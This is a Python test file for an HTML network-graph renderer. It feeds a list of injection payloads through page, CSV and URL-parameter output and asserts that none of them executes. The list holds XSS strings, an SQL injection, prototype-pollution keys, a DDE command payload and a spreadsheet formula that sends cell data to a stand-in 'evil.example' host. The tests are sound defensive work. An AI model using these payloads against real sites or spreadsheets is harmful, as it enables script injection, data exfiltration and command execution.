"""A corpus that means harm: text of documents reaches the page as text and nothing else, whatever it says."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ElementTree
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from detente.model import FUTURE, PAST, Bounds, Document, Edge, Entity, Evidence
from detente.rendering.assembly import script_json
from detente.rendering.html import network, page
from tests.services.browser import until, visiting

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PAYLOADS = (
    "<script>window.harmed = 1</script>",
    "</script><script>window.harmed = 1</script>",
    "</SCRIPT ><img src=x onerror='window.harmed = 1'>",
    "<!--<script>",
    "--><script>window.harmed = 1</script>",
    "<img src=x onerror=window.harmed=1>",
    "<svg onload=window.harmed=1>",
    "<svg><style><img src=x onerror=window.harmed=1></style></svg>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<a href='javascript:window.harmed=1'>x</a>",
    "javascript:window.harmed=1",
    "data:text/html,<script>window.harmed=1</script>",
    "\" onmouseover=\"window.harmed=1\" x=\"",
    "' onfocus='window.harmed=1' autofocus='",
    "</title><script>window.harmed=1</script>",
    "</style><script>window.harmed=1</script>",
    "{{constructor.constructor('window.harmed=1')()}}",
    "${window.harmed=1}",
    "\\u003cscript\\u003ewindow.harmed=1\\u003c/script\\u003e",
    "\\\"};window.harmed=1;//",
    "&lt;script&gt;window.harmed=1&lt;/script&gt;&#60;b&#62;",
    "{{title}}{{policy}}{{data}}",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "\u202eevil\u202c\u2066\u200f",
    "\ud800lone\udfff",
    "null\x00byte\x07\x1b[31m\x9b",
    "line\u2028and\u2029paragraph",
    "\ufeff\ufffe\uffff",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "a\r\n\"b\",c",
    "]]><script>window.harmed=1</script>",
    "'; DROP TABLE edge; --",
    "𝒜" * 50 + "é́" * 20,
    "x" * 5000,
    "   ",
    "",
)  # fmt: skip
FORMULA = re.compile(r"^\s*[=+\-@]|^[\t\r\n]")


def hostile() -> tuple[list[Entity], list[Edge], list[Document]]:
    """Each payload as a name, an alias, a type, an id, a property, a relation, a date, a quote, a document, a title, a URL …"""
    entities, edges, documents = [], [], []
    for i, text in enumerate(PAYLOADS):
        entities.append(Entity(text, "State" if i % 2 else text, text, (text,), {text: text}))
        documents.append(Document(text, "0", text, text, text, text, text, text, text, text))
        evidence = Evidence(text, 0, 9, text, text, text, "asserted", text, 0.5, text, None, None, text, {text: text})
        bounds = Bounds(PAST, FUTURE, PAST, FUTURE)
        target = PAYLOADS[(i + 1) % len(PAYLOADS)]
        edges.append(
            Edge(
                f"{text}{i}",
                text,
                text,
                target,
                text,
                text,
                bounds,
                "state",
                "told",
                "told",
                "hostile",
                "asserted",
                {text: text},
                (evidence,),
            )
        )
    return entities, edges, documents


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_text_ends_the_element_that_holds_it(text: str) -> None:
    made = script_json({"text": text, text: [text]})
    assert not re.search(r"[<>&\u2028\u2029]", made)
    made.encode("utf-8")


def test_a_title_stays_a_title() -> None:
    for text in PAYLOADS:
        html = page((), (), (), title=text)
        head = html[: html.index('<script type="application/json"')]
        assert "<script" not in head
        assert html.count("</title>") == html.count("</style>") == 1
        html.encode("utf-8")


def test_nothing_of_a_hostile_corpus_runs(browser: Browser, tmp_path: Path) -> None:
    entities, edges, documents = hostile()
    network(entities, edges, documents, title=PAYLOADS[1], note=PAYLOADS[5]).write_html(tmp_path / "page.html")
    with visiting(browser, tmp_path / "page.html") as visit:
        opened = visit.page
        drawn = opened.evaluate("detente.drawn()")
        assert len(drawn["nodes"]) == len(entities), "every node is drawn, whatever it is called"
        assert len(drawn["edges"]) == len(edges)
        for number in range(len(edges)):
            opened.locator("#rows tr").nth(number).locator("td:nth-child(2) button").evaluate("button => button.click()")
            opened.locator("#rows tr").nth(number).locator("td:nth-child(1) button").evaluate("button => button.click()")
            assert opened.locator("#panel dl").count() == 1
        for text in PAYLOADS:
            opened.fill("#search", text.replace("\x00", "")[:50])
            opened.press("#search", "Enter")
        links = opened.evaluate("[...document.querySelectorAll('a')].map(link => link.protocol)")
        assert not set(links) - {"http:", "https:"}
        opened.click("#path button[type=submit]")
        elements = opened.evaluate("[...document.querySelectorAll('*')].map(e => e.localName)")
        assert not {"img", "iframe", "object", "embed", "b"} & set(elements)
        assert elements.count("script") == 2, (
            "the page's own, and vis-network; the elements that held them and the data packed are taken away"
        )
        ElementTree.fromstring(opened.evaluate("detente.svg()"))
        _assert_inert(opened.evaluate("detente.csv()"))
        assert len(json.loads(opened.evaluate("detente.json()"))["edges"]) == len(edges)
        opened.click("#central")
        assert opened.locator(".ranking li").count() == 25
        opened.evaluate("document.getElementById('compare').click()")  # hidden, since nothing has a date here
        assert opened.evaluate("typeof window.harmed") == "undefined"
        assert opened.evaluate("({}).harmed === undefined && Object.keys(Object.prototype).length === 0")
        assert visit.console == []
        assert visit.requests == [(tmp_path / "page.html").resolve().as_uri()]


def _assert_inert(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    assert {len(row) for row in rows} == {len(rows[0])}
    assert not [value for row in rows for value in row if FORMULA.match(value)]


@pytest.mark.parametrize(
    "parameter",
    [
        "actor",
        "edge",
        "path",
        "in",
        "at",
        "from",
        "to",
        "type",
        "sign",
        "relation",
        "all",
        "compare",
        "central",
        "hide",
        "pin",
        "document",
        "least",
        "__proto__",
        "constructor",
    ],
)
def test_no_address_does_harm(browser: Browser, tmp_path: Path, parameter: str) -> None:
    entities, edges, documents = hostile()
    network(entities, edges, documents).write_html(tmp_path / "page.html")
    said = "&".join(f"{parameter}={quote(text, errors='replace')}" for text in PAYLOADS[:-3] if "\ud800" not in text)
    with visiting(browser, tmp_path / "page.html", f"#{said}&{parameter}=%ED%A0%80%&%%&=&{parameter}=1,2,<img>") as visit:
        until(lambda: visit.page.evaluate("detente.shown().actors.length > 0"), "some actors")
        assert visit.page.evaluate("typeof window.harmed") == "undefined"
        assert visit.console == []
